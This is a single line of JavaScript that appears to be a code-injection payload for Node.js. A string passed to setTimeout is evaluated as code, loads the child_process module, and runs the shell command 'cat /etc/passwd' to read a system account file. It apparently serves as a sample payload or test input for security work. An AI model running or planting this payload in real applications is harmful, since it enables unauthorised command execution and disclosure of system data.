setTimeout("require('child_process').exec('cat /etc/passwd')", 10);
